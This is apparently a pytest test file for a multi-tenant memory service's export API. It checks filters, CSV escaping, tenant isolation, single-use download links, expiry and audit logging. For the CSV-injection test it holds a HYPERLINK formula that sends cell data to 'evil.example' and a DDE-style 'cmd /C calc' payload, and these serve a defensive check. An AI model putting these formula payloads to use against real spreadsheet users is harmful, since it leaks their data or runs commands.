"""/exports: the file holds what was asked for and nothing else, and only those who may download it can."""

import base64
import csv
import hashlib
import io
import json
import string
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from apps.accounts.models import User
from apps.apikeys import services as keys
from apps.apikeys.onboarding import OpenedTenant
from apps.apikeys.permissions import DEFAULT
from apps.audit.models import AuditEvent
from apps.core.scoping import tenant_transaction
from apps.memories.models import Memory
from apps.projects.scope import Environment, Principal
from apps.tenants.members import give_role
from apps.tenants.services import resume_tenant, suspend_tenant
from apps.transfers.exports import export_worker, files, links, reading
from apps.transfers.exports.export_worker import ExportOutcome
from apps.transfers.models.exports import ExportChunk, ExportJob, ExportLink
from tests import once
from tests.api.conftest import Caller
from tests.api.test_moving_house import bring_in
from tests.makers import make_api_key, make_project

pytestmark = pytest.mark.django_db(databases="__all__")
cast, acme, globex = once.cast, once.acme, once.globex

DOG, HOME, WORK = "My dog Biscuit sleeps on the blue sofa.", "I live in Lisbon.", "I work as a nurse."
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def now() -> datetime:
    return datetime.now(UTC)


@pytest.fixture
def exporter(acme: OpenedTenant) -> Caller:
    """A program that may export, of the tenant acme, in production."""
    return Caller(make_api_key(acme.scope, scopes=["exports:read", "exports:write"]).text, end_user=None)


def start(caller: Caller, **body: Any) -> Any:
    response = caller("POST", "/exports", {"format": "jsonl"} | body)
    assert response.status_code == 202, response.content
    return response.json()["job"]


def finish(opened: OpenedTenant) -> None:
    """Work at every job of the tenant until each has ended."""
    with tenant_transaction(opened.scope):
        ids = list(ExportJob.objects.within(opened.scope).order_by("pk").values_list("pk", flat=True))
    for job_id in ids:
        while export_worker.work(opened.scope.tenant_id, job_id, seconds=60.0, clock=now) == ExportOutcome.BUSY:
            pass


def seen(caller: Caller, job: Any) -> Any:
    response = caller("GET", f"/exports/{job['id']}")
    assert response.status_code == 200, response.content
    return response.json()


def link_of(caller: Caller, job: Any) -> str:
    response = caller("GET", f"/exports/{job['id']}/download-url")
    assert response.status_code == 200, response.content
    return str(response.json()["download_url"].removeprefix("http://testserver"))


def take(path: str) -> Any:
    return Caller(None, end_user=None)("GET", path)


def file_of(opened: OpenedTenant, caller: Caller, **body: Any) -> bytes:
    job = start(caller, **body)
    finish(opened)
    taken = take(link_of(caller, job))
    assert taken.status_code == 200, taken.content
    content: bytes = taken.content
    return content


def rows_of(opened: OpenedTenant, caller: Caller, **body: Any) -> list[Any]:
    return [json.loads(line) for line in file_of(opened, caller, **body).splitlines()]


def texts_of(opened: OpenedTenant, caller: Caller, **body: Any) -> set[str]:
    return {row["text"] for row in rows_of(opened, caller, **body)}


def refusal(response: Any) -> tuple[int, str]:
    return response.status_code, str(response.json()["error"]["code"])


# -- what is in a file -------------------------------------------------------------------------------------------------


def test_file_holds_every_end_user_once_and_says_how_it_came_about(
    acme: OpenedTenant, globex: OpenedTenant, alice: Caller, exporter: Caller
) -> None:
    alice.add(DOG, tags=["pets"], source="chat", metadata={"n": [1, "é"]})
    alice.as_user("bob").add(HOME)
    Caller(globex.keys[Environment.PRODUCTION]).add("A memory of globex.")
    Caller(acme.keys[Environment.STAGING]).add("A memory of staging.")

    started = exporter("POST", "/exports", {"format": "jsonl", "scope": "all"}).json()
    job = started["job"]
    assert (job["status"], job["progress_percentage"], started["estimated_total"]) == ("pending", 0.0, 2)
    finish(acme)
    done = seen(exporter, job)
    taken = take(link_of(exporter, job))

    dog, home = (json.loads(line) for line in taken.content.splitlines())
    assert (dog["text"], dog["tags"], dog["source"], dog["metadata"]) == (DOG, ["pets"], "chat", {"n": [1, "é"]})
    assert (dog["end_user_id"], home["end_user_id"], home["text"]) == ("alice", "bob", HOME)
    assert (done["status"], done["progress_percentage"], done["total_rows"], done["processed_rows"]) == (
        "completed", 100.0, 2, 2,
    )  # fmt: skip
    assert done["file_size_bytes"] == len(taken.content) == int(taken["Content-Length"])
    assert done["sha256_hash"] == hashlib.sha256(taken.content).hexdigest()
    assert taken["Repr-Digest"] == f"sha-256=:{base64.b64encode(hashlib.sha256(taken.content).digest()).decode()}:"
    assert taken["Content-Disposition"] == f'attachment; filename="{job["id"]}.jsonl"'
    assert taken["Cache-Control"] == "no-store"
    assert 8 <= len(job["id"]) <= 64
    assert seen(exporter, job)["download_count"] == 1


def test_filters_choose_and_words_are_looked_for_in_what_was_sealed(
    acme: OpenedTenant, alice: Caller, exporter: Caller
) -> None:
    alice.add(DOG, source="chat", tags=["pets"])
    alice.add(HOME, source="mail")
    alice.as_user("bob").add(WORK, source="chat")

    def chosen(**filters: Any) -> set[str]:
        return texts_of(acme, exporter, scope="filtered", filters=filters)

    assert chosen() == {DOG, HOME, WORK}
    assert chosen(q="SOFA biscuit") == {DOG}
    assert chosen(q="pets") == {DOG}
    assert chosen(q="biscuit lisbon") == set()
    assert chosen(user_id="bob") == {WORK}
    assert chosen(user_id="nobody") == set()
    assert chosen(source="chat") == {DOG, WORK}
    assert chosen(source="chat", user_id="alice") == {DOG}
    assert chosen(is_summary=True) == set()
    assert chosen(is_summary=False, tier="hot") == {DOG, HOME, WORK}
    assert chosen(tier="cold") == set()
    assert chosen(time_range="1h") == {DOG, HOME, WORK}
    assert chosen(date_from="2020-01-01", date_to=now().date().isoformat()) == {DOG, HOME, WORK}
    assert chosen(date_to="2020-01-01") == set()


def test_date_range_and_time_range_ask_when_it_was_remembered(
    acme: OpenedTenant, alice: Caller, exporter: Caller
) -> None:
    old, new = alice.add(DOG), alice.add(WORK)
    with tenant_transaction(acme.scope):
        Memory.objects.within_tenant(acme.scope).filter(pk=old["id"]).update(created_at=now() - timedelta(days=9))
    yesterday = (now() - timedelta(days=1)).isoformat()

    assert texts_of(acme, exporter, scope="date_range", filters={"date_from": yesterday}) == {WORK}
    assert texts_of(acme, exporter, scope="date_range", filters={"date_to": yesterday}) == {DOG}
    assert texts_of(acme, exporter, scope="date_range", filters={"time_range": "7d"}) == {WORK}
    assert new["id"] > old["id"]


def test_deleted_memories_are_in_it_only_where_that_is_asked_for(
    acme: OpenedTenant, alice: Caller, exporter: Caller
) -> None:
    gone, kept = alice.add(DOG), alice.add(WORK)
    with tenant_transaction(acme.scope):
        Memory.objects.within_tenant(acme.scope).filter(pk=gone["id"]).update(retention_status="soft_deleted")

    assert texts_of(acme, exporter, scope="all") == {WORK}
    rows = rows_of(acme, exporter, scope="all", filters={"include_soft_deleted": True})
    assert {(row["id"], row["retention_status"]) for row in rows} == {
        (gone["id"], "soft_deleted"),
        (kept["id"], "active"),
    }


def test_export_of_a_project_has_its_memories_and_those_of_none(
    acme: OpenedTenant, alice: Caller, exporter: Caller
) -> None:
    other = make_project(acme.scope, "other")
    alice.add(DOG)
    alice.with_headers(X_Project_ID=other).add(WORK)

    assert texts_of(acme, exporter.with_headers(X_Project_ID=other), scope="all") == {WORK}
    assert texts_of(acme, exporter, scope="all") == {DOG}
    job = start(exporter.with_headers(X_Project_ID=other))
    assert job["project_id"] == other


def test_csv_has_a_header_and_carries_nothing_out(acme: OpenedTenant, alice: Caller, exporter: Caller) -> None:
    said = [FORMULA, "+1 for the blue sofa, always", "-2 is what I say", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\uff1d1+1 in wide letters", 'a "quoted", text\nin two lines']  # fmt: skip
    for text in said:
        alice.add(text, deduplicate=False, metadata={"note": "=1+1"}, tags=["=tag"], source="=cmd")

    content = file_of(acme, exporter, format="csv", scope="all").decode()

    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert [row["text"].removeprefix("'") for row in rows] == said
    cells = [value for row in rows for value in row.values()]
    assert [cell for cell in cells if cell.lstrip()[:1] in set("=+-@\uff1d")] == []
    assert json.loads(rows[0]["metadata"]) == {"note": "=1+1"}
    assert rows[0]["id"].isdigit()
    assert {"id", "text", "created_at", "tags", "source", "metadata"} <= rows[0].keys()
    until = datetime.fromisoformat(rows[0]["created_at"]) + timedelta(days=90)
    assert datetime.fromisoformat(rows[0]["retention_expires_at"]) == until


def test_export_of_nothing_is_a_file_all_the_same(acme: OpenedTenant, exporter: Caller) -> None:
    assert file_of(acme, exporter, format="jsonl", scope="all") == b""
    assert file_of(acme, exporter, format="csv", scope="all").startswith(b'"id","user_id"')


def test_file_can_be_imported_again(acme: OpenedTenant, globex: OpenedTenant, alice: Caller, exporter: Caller) -> None:
    from apps.transfers.imports import import_worker as importing
    from apps.transfers.models.imports import ImportJob
    from tests.forms import form

    alice.add(DOG, tags=["pets"])
    alice.as_user("bob").add(HOME)
    body, content_type = form(file_of(acme, exporter, scope="all"), "export.jsonl")

    there = Caller(globex.keys[Environment.PRODUCTION], end_user=None)
    assert there("POST", "/imports", body, Content_Type=content_type).status_code == 202
    with tenant_transaction(globex.scope):
        (job_id,) = ImportJob.objects.within(globex.scope).values_list("pk", flat=True)
    importing.work(globex.scope.tenant_id, job_id, seconds=30, clock=now)

    (memory,) = there.as_user("alice")("GET", "/memory/export").json()["memories"]
    assert (memory["text"], memory["tags"]) == (DOG, ["pets"])


def test_row_that_fails_its_seal_is_left_out_and_counted(acme: OpenedTenant, alice: Caller, exporter: Caller) -> None:
    broken, _ = alice.add(DOG), alice.add(WORK)
    with tenant_transaction(acme.scope), connection.cursor() as cursor:
        cursor.execute(
            "update memories_memory set text_ct = set_byte(text_ct, 90, get_byte(text_ct, 90) # 1) where id = %s",
            [broken["id"]],
        )

    job = start(exporter, scope="all")
    finish(acme)

    done = seen(exporter, job)
    assert (done["status"], done["processed_rows"], done["unreadable_rows"]) == ("completed", 1, 1)


# -- what is refused ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({"format": "xlsx"}, "VALIDATION_ERROR"),
        ({"scope": "everything"}, "VALIDATION_ERROR"),
        ({"filters": {"query": "x"}}, "VALIDATION_ERROR"),
        ({"filters": {"tier": "lukewarm"}}, "VALIDATION_ERROR"),
        ({"filters": {"date_from": "yesterday"}}, "VALIDATION_ERROR"),
        ({"filters": {"time_range": "soon"}}, "EXPORT_TIME_RANGE"),
        ({"scope": "all", "filters": {"source": "chat"}}, "EXPORT_FILTERS_CLASH"),
        ({"scope": "date_range"}, "EXPORT_FILTERS_CLASH"),
        ({"scope": "date_range", "filters": {"q": "dog"}}, "EXPORT_FILTERS_CLASH"),
        ({"filters": {"time_range": "7d", "date_from": "2026-01-01"}}, "EXPORT_FILTERS_CLASH"),
        ({"filters": {"date_from": "2026-02-01", "date_to": "2026-01-01"}}, "EXPORT_FILTERS_CLASH"),
    ],
)
def test_what_makes_no_sense_is_refused(body: Any, code: str, exporter: Caller) -> None:
    assert refusal(exporter("POST", "/exports", {"format": "csv"} | body)) == (422, code)
    assert exporter("GET", "/exports").json() == {"jobs": [], "total": 0}


def test_tenant_has_five_exports_under_way_at_most(acme: OpenedTenant, globex: OpenedTenant, exporter: Caller) -> None:
    jobs = [start(exporter) for _ in range(5)]

    assert refusal(exporter("POST", "/exports", {"format": "csv"})) == (409, "TOO_MANY_EXPORTS")
    other = Caller(make_api_key(globex.scope, scopes=["exports:write"]).text, end_user=None)
    assert other("POST", "/exports", {"format": "csv"}).status_code == 202
    assert exporter("POST", f"/exports/{jobs[0]['id']}/cancel").json()["status"] == "cancelled"
    assert exporter("POST", "/exports", {"format": "csv"}).status_code == 202


def test_reading_does_not_start_and_no_default_key_may_do_either(acme: OpenedTenant, alice: Caller) -> None:
    reader = Caller(make_api_key(acme.scope, scopes=["exports:read"]).text)
    writer = Caller(make_api_key(acme.scope, scopes=["exports:write"]).text)

    assert reader("GET", "/exports").status_code == 200
    assert refusal(reader("POST", "/exports", {"format": "csv"})) == (403, "INSUFFICIENT_SCOPE")
    job = start(writer)
    finish(acme)
    assert refusal(writer("GET", f"/exports/{job['id']}/download-url")) == (403, "INSUFFICIENT_SCOPE")
    assert refusal(alice("POST", "/exports", {"format": "csv"})) == (403, "INSUFFICIENT_SCOPE")
    everything = Caller(make_api_key(acme.scope, scopes=["memory:*"]).text)
    assert refusal(everything("GET", "/exports")) == (403, "INSUFFICIENT_SCOPE")


@pytest.mark.parametrize("who", ["another tenant", "another environment"])
def test_job_of_another_looks_like_none(
    who: str, acme: OpenedTenant, globex: OpenedTenant, alice: Caller, exporter: Caller
) -> None:
    alice.add(DOG)
    job = start(exporter, scope="all")
    finish(acme)
    scope = globex.scope if who == "another tenant" else acme.scope
    environment = Environment.STAGING if who == "another environment" else Environment.PRODUCTION
    issued = make_api_key(scope, environment=environment, scopes=["exports:read", "exports:write"])
    stranger = Caller(issued.text, end_user=None)

    for method, path in (("GET", ""), ("POST", "/cancel"), ("POST", "/retry"), ("GET", "/download-url")):
        foreign = stranger(method, f"/exports/{job['id']}{path}")
        absent = stranger(method, f"/exports/exp_000000000000000000000000{path}")
        assert refusal(foreign) == refusal(absent) == (404, "EXPORT_NOT_FOUND")
    assert stranger("GET", "/exports").json() == {"jobs": [], "total": 0}
    assert seen(exporter, job)["status"] == "completed"


# -- links -------------------------------------------------------------------------------------------------------------


@pytest.fixture
def made(acme: OpenedTenant, alice: Caller, exporter: Caller) -> Any:
    """An export that is completed."""
    alice.add(DOG)
    job = start(exporter, scope="all")
    finish(acme)
    return job


REFUSED = (404, "EXPORT_LINK_REFUSED")


def test_link_is_good_once(made: Any, exporter: Caller) -> None:
    link = link_of(exporter, made)

    assert take(link).status_code == 200

    assert refusal(take(link)) == REFUSED
    assert seen(exporter, made)["download_count"] == 1
    assert take(link_of(exporter, made)).status_code == 200
    assert seen(exporter, made)["download_count"] == 2


def test_two_links_to_one_file_are_good_once_each(made: Any, exporter: Caller) -> None:
    first, second = link_of(exporter, made), link_of(exporter, made)

    assert first != second
    assert [take(first).status_code, take(second).status_code, take(first).status_code] == [200, 200, 404]


def test_looking_at_a_link_does_not_use_it(made: Any, exporter: Caller) -> None:
    link = link_of(exporter, made)

    assert Caller(None)("HEAD", link).status_code == 404

    assert take(link).status_code == 200
    made_before = ExportLink.everyone.count()
    assert exporter("HEAD", f"/exports/{made['id']}/download-url").status_code == 200
    assert ExportLink.everyone.count() == made_before


def test_link_is_good_for_minutes(made: Any, exporter: Caller, monkeypatch: pytest.MonkeyPatch) -> None:
    from apps.api.exports.views import ExportFileView

    link = link_of(exporter, made)
    asked_at = now()
    for minutes, status in ((11, 404), (9, 200)):
        at = asked_at + timedelta(minutes=minutes)
        monkeypatch.setattr(ExportFileView, "now", lambda _, at=at: at)
        assert take(link).status_code == status


def test_link_with_another_byte_is_refused(made: Any, exporter: Caller) -> None:
    link = link_of(exporter, made)
    path, _, token = link.rpartition("/")
    right = base64.urlsafe_b64decode(token + "==")
    assert len(right) == 40

    for at in range(40):
        raw = bytearray(right)
        raw[at] ^= 1
        bent = base64.urlsafe_b64encode(raw).decode().rstrip("=")
        assert refusal(take(f"{path}/{bent}")) == REFUSED, at
    assert take(link).status_code == 200


def test_what_is_no_token_is_refused(made: Any) -> None:
    for token in ("x", "=", "%00", "a" * 54, "a" * 53, "a" * 5000, "%F0%9F%97%9D", "____" * 13 + "__"):
        assert refusal(take(f"/exports/{made['id']}/file/{token}")) == REFUSED, token


def respelled(token: str) -> dict[str, str]:
    """The same bytes, as a lenient reader of Base64 takes them."""
    letters = string.ascii_uppercase + string.ascii_lowercase + string.digits + "-_"
    last = letters.index(token[-1])
    return {
        "padding": token + "=",
        "more padding": token + "==",
        "unused bits": token[:-1] + letters[last ^ 1],
        "the other alphabet": token.replace("-", "+"),
        "a blank": token[:4] + "%20" + token[4:],
    }


@pytest.mark.parametrize("spelling", ["padding", "more padding", "unused bits", "the other alphabet", "a blank"])
def test_token_in_another_spelling_is_refused_and_not_spent(spelling: str, made: Any, exporter: Caller) -> None:
    token = next(one for one in tokens_of(exporter, made) if "-" in one)
    sent = respelled(token)[spelling]
    assert sent != token

    assert refusal(take(f"/exports/{made['id']}/file/{sent}")) == REFUSED
    assert take(f"/exports/{made['id']}/file/{token}").status_code == 200


def tokens_of(exporter: Caller, made: Any) -> Iterator[str]:
    """As many as are asked for."""
    while True:
        yield link_of(exporter, made).rpartition("/")[2]


def test_link_is_good_for_its_own_export_only(acme: OpenedTenant, made: Any, exporter: Caller) -> None:
    other = start(exporter, scope="all")
    finish(acme)
    token = link_of(exporter, made).rpartition("/")[2]

    assert refusal(take(f"/exports/{other['id']}/file/{token}")) == REFUSED
    assert take(f"/exports/{made['id']}/file/{token}").status_code == 200


def test_link_of_another_tenant_with_the_same_numbers_is_refused(
    acme: OpenedTenant, globex: OpenedTenant, made: Any, exporter: Caller
) -> None:
    raw = bytearray(base64.urlsafe_b64decode(link_of(exporter, made).rpartition("/")[2] + "=="))
    raw[:8] = globex.scope.tenant_id.to_bytes(8, "big")

    token = base64.urlsafe_b64encode(raw).decode().rstrip("=")

    assert refusal(take(f"/exports/{made['id']}/file/{token}")) == REFUSED


def test_link_ends_with_the_key_that_asked_for_it(acme: OpenedTenant, made: Any, exporter: Caller) -> None:
    issued = make_api_key(acme.scope, scopes=["exports:read"])
    link = link_of(replace(exporter, key=issued.text), made)
    keys.revoke(acme.scope, issued.key.pk, now=now())

    assert refusal(take(link)) == REFUSED


def test_link_waits_while_the_tenant_is_suspended(acme: OpenedTenant, made: Any, exporter: Caller) -> None:
    link = link_of(exporter, made)
    suspend_tenant(acme.tenant, actor="account:1", now=now())

    refused = refusal(take(link))
    resume_tenant(acme.tenant, actor="account:1", now=now())

    assert refused == REFUSED
    assert take(link).status_code == 200


@pytest.mark.parametrize(
    ("role", "is_active", "status"),
    [("analyst", True, 200), ("billing", True, 404), (None, True, 404), ("owner", False, 404)],
)
def test_link_ends_with_the_role_of_the_person_who_asked_for_it(
    role: str | None, is_active: bool, status: int, acme: OpenedTenant, made: Any
) -> None:
    person = User.objects.create_user(email="ann@acme.example", password="correct horse")
    by = replace(acme.scope, principal=Principal(kind="account", id=person.pk))
    link = links.issue_link(by, made["id"], now=now())
    if role:
        give_role(acme.tenant, person.pk, role, actor="system:0", now=now())
    User.objects.filter(pk=person.pk).update(is_active=is_active)

    assert take(f"/exports/{link.public_id}/file/{link.token}").status_code == status


def test_file_that_is_not_there_has_no_link(acme: OpenedTenant, exporter: Caller) -> None:
    job = start(exporter)

    assert refusal(exporter("GET", f"/exports/{job['id']}/download-url")) == (409, "EXPORT_NOT_READY")


def test_file_is_gone_when_its_time_is_over(acme: OpenedTenant, made: Any, exporter: Caller) -> None:
    link = link_of(exporter, made)

    export_worker.sweep(now=now() + timedelta(hours=73))

    done = seen(exporter, made)
    assert (done["status"], done["sha256_hash"], done["file_size_bytes"]) == ("expired", None, None)
    assert "kept for as long" in done["error_message"]
    assert refusal(take(link)) == REFUSED
    assert refusal(exporter("GET", f"/exports/{made['id']}/download-url")) == (409, "EXPORT_NOT_READY")
    with tenant_transaction(acme.scope):
        assert not ExportChunk.objects.within(acme.scope).exists()
    export_worker.sweep(now=now() + timedelta(days=31))
    assert exporter("GET", "/exports").json()["total"] == 0


def test_file_that_goes_while_it_is_read_ends_the_answer_without_its_end(
    acme: OpenedTenant, alice: Caller, exporter: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_worker, "PIECE_BYTES", 64)
    memory = alice.add(DOG)
    job = start(exporter, scope="all")
    finish(acme)
    token = link_of(exporter, job).rpartition("/")[2]
    file = links.use_link(job["id"], token, now=now())
    first = next(file.pieces)

    with tenant_transaction(acme.scope):
        files.discard(acme.scope, memory_ids=[memory["id"]], now=now())

    assert len(first) == 64
    with pytest.raises(links.FileGone):
        list(file.pieces)


# -- how it is made ----------------------------------------------------------------------------------------------------


def test_what_is_kept_of_a_file_is_sealed(acme: OpenedTenant, alice: Caller, exporter: Caller) -> None:
    alice.add(DOG)
    job = start(exporter, filters={"q": "biscuit", "user_id": "alice"})
    finish(acme)
    done = seen(exporter, job)

    with tenant_transaction(acme.scope), connection.cursor() as cursor:
        kept = ""
        for table in ("transfers_exportjob", "transfers_exportchunk", "transfers_exportlink"):
            cursor.execute(f"select to_jsonb(t)::text from {table} t")  # noqa: S608  (ours)
            kept += "".join(row for (row,) in cursor.fetchall())
    assert done["processed_rows"] == 1
    for said in ("Biscuit", "biscuit", "sofa", "alice", done["sha256_hash"]):
        assert said not in kept
        assert said.encode().hex() not in kept


def test_file_is_made_in_parts_and_nobody_holds_more_than_one(
    acme: OpenedTenant, alice: Caller, exporter: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reading, "BATCH_ROWS", 2)
    monkeypatch.setattr(export_worker, "PIECE_BYTES", 300)
    for number in range(5):
        alice.add(f"The box number {number} is on shelf {number + 10}.", deduplicate=False)
    job = start(exporter, scope="all")
    with tenant_transaction(acme.scope):
        job_id = ExportJob.objects.within(acme.scope).values_list("pk", flat=True).get()

    seen_at = []
    while export_worker.export_part(acme.scope, job_id, now=now()) == ExportOutcome.MORE:
        seen_at.append(seen(exporter, job)["processed_rows"])
    export_worker.finish(acme.scope, job_id, now=now())

    assert seen_at == [2, 4, 5]
    with tenant_transaction(acme.scope):
        sizes = [len(bytes(chunk.payload_ct)) for chunk in ExportChunk.objects.within(acme.scope)]
    assert len(sizes) > 5
    assert max(sizes) <= 300 + 78 + 64
    taken = take(link_of(exporter, job)).content
    assert [json.loads(line)["text"][:16] for line in taken.splitlines()] == [f"The box number {n}" for n in range(5)]


def test_rows_of_many_bytes_are_taken_few_at_a_time(
    acme: OpenedTenant, alice: Caller, exporter: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reading, "BATCH_BYTES", 100)
    alice.add(DOG)
    alice.add(WORK)
    start(exporter, scope="all")
    with tenant_transaction(acme.scope):
        job_id = ExportJob.objects.within(acme.scope).values_list("pk", flat=True).get()

    export_worker.export_part(acme.scope, job_id, now=now())

    with tenant_transaction(acme.scope):
        assert ExportJob.objects.within(acme.scope).get().rows == 1


def test_cancelled_export_leaves_nothing_and_is_made_when_it_is_repeated(
    acme: OpenedTenant, alice: Caller, exporter: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reading, "BATCH_ROWS", 1)
    alice.add(DOG)
    alice.add(WORK)
    job = start(exporter, scope="all")
    with tenant_transaction(acme.scope):
        job_id = ExportJob.objects.within(acme.scope).values_list("pk", flat=True).get()
    export_worker.export_part(acme.scope, job_id, now=now())

    cancelled = exporter("POST", f"/exports/{job['id']}/cancel").json()
    finish(acme)

    assert (cancelled["status"], cancelled["progress_percentage"]) == ("cancelled", 100.0)
    assert exporter("POST", f"/exports/{job['id']}/cancel").json() == cancelled == seen(exporter, job)
    with tenant_transaction(acme.scope):
        assert not ExportChunk.objects.within(acme.scope).exists()
    again = exporter("POST", f"/exports/{job['id']}/retry")
    assert (again.status_code, again.json()["job"]["status"], again.json()["estimated_total"]) == (202, "pending", 2)
    finish(acme)
    done = seen(exporter, job)
    assert (done["status"], done["retry_count"], done["processed_rows"]) == ("completed", 1, 2)
    assert refusal(exporter("POST", f"/exports/{job['id']}/retry")) == (409, "EXPORT_NOT_OVER")


def test_export_that_keeps_failing_has_failed_and_can_be_repeated(
    acme: OpenedTenant, alice: Caller, exporter: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    alice.add(DOG)
    job = start(exporter, scope="all")

    def fail(*_: object, **__: object) -> None:
        raise RuntimeError(DOG)

    with monkeypatch.context() as patched:
        patched.setattr(reading, "next_memories", fail)
        finish(acme)

    failed = seen(exporter, job)
    assert (failed["status"], failed["download_url"]) == ("failed", None)
    assert "try it again" in failed["error_message"]
    assert exporter("POST", f"/exports/{job['id']}/retry").status_code == 202
    finish(acme)
    assert seen(exporter, job)["status"] == "completed"


def test_file_of_which_a_piece_was_changed_is_made_anew(acme: OpenedTenant, alice: Caller, exporter: Caller) -> None:
    alice.add(DOG)
    job = start(exporter, scope="all")
    with tenant_transaction(acme.scope):
        job_id = ExportJob.objects.within(acme.scope).values_list("pk", flat=True).get()
    export_worker.export_part(acme.scope, job_id, now=now())
    with tenant_transaction(acme.scope), connection.cursor() as cursor:
        cursor.execute("update transfers_exportchunk set payload_ct = set_byte(payload_ct, 90, 0)")

    finish(acme)

    done = seen(exporter, job)
    assert (done["status"], done["processed_rows"]) == ("completed", 1)
    assert json.loads(take(link_of(exporter, job)).content)["text"] == DOG


def test_what_is_deleted_goes_from_the_tenant_it_is_of(acme: OpenedTenant, made: Any, exporter: Caller) -> None:
    with CaptureQueriesContext(connection) as sent:
        export_worker.sweep(now=now() + timedelta(hours=73))

    gone = [one["sql"] for one in sent.captured_queries if one["sql"].lower().startswith("delete from")]
    assert len(gone) >= 2
    assert [sql for sql in gone if "tenant_id" not in sql] == []


def test_trail_says_who_exported_and_who_took_the_file(acme: OpenedTenant, made: Any, exporter: Caller) -> None:
    take(link_of(exporter, made))

    with tenant_transaction(acme.scope):
        told = list(AuditEvent.objects.filter(action__startswith="export.").order_by("pk"))
    assert [one.action for one in told] == ["export.create", "export.end", "export.link", "export.download"]
    assert {one.actor.partition(":")[0] for one in told} == {"api_key"}


def test_profiles_of_a_namespace_are_named_by_two_fields_and_imported_by_them(acme: OpenedTenant) -> None:
    exporter = Caller(make_api_key(acme.scope, scopes=[*DEFAULT, "exports:read", "exports:write"]).text)
    stated = {"type": "fact", "topic_key": "user.diet", "summary": "vegan", "content": {"diet": "vegan"}}
    assert exporter("POST", "/v1/memory/shop/alice/memories", {"memories": [stated]}).status_code == 201
    exporter.add("I live in Lisbon.")
    filters = {"user_id": "alice", "namespace": "shop"}

    content = file_of(acme, exporter, format="jsonl", filters=filters)

    (row,) = [json.loads(line) for line in content.splitlines()]
    assert (row["namespace"], row["end_user_id"], row["text"]) == ("shop", "alice", "vegan")
    (plain,) = rows_of(acme, exporter, format="jsonl", filters={"user_id": "alice"})
    assert (plain.get("namespace"), plain["text"]) == (None, "I live in Lisbon.")
    moved = json.dumps([row | {"namespace": "work"}]).encode()
    job = bring_in(exporter, acme, moved)
    assert (job["created"], job["errors"]) == (1, [])
    found = exporter("POST", "/v1/memory/work/alice/recall", {"topic_key": "user.diet"}).json()["memories"]
    assert [one["content"] for one in found] == [{"diet": "vegan"}]


def test_filter_of_a_namespace_names_a_profile(exporter: Caller) -> None:
    refused = exporter("POST", "/exports", {"format": "jsonl", "filters": {"namespace": "shop"}})

    assert (refused.status_code, refused.json()["error"]["code"]) == (422, "EXPORT_FILTERS_CLASH")


def test_privacy_request_names_a_profile_by_its_namespace(acme: OpenedTenant) -> None:
    caller = Caller(make_api_key(acme.scope, scopes=[*DEFAULT, "privacy:request"]).text)
    stated = {"type": "event", "summary": "deployed", "content": "v2"}
    assert caller("POST", "/v1/memory/shop/alice/memories", {"memories": [stated]}).status_code == 201

    opened = caller("POST", "/v1/privacy/requests", {"type": "export", "namespace": "shop"})

    assert opened.status_code == 201, opened.content
    listed = caller("GET", "/v1/privacy/requests?namespace=shop").json()["requests"]
    assert [one["id"] for one in listed] == [opened.json()["id"]]
    assert caller("GET", "/v1/privacy/requests").json()["requests"] == []
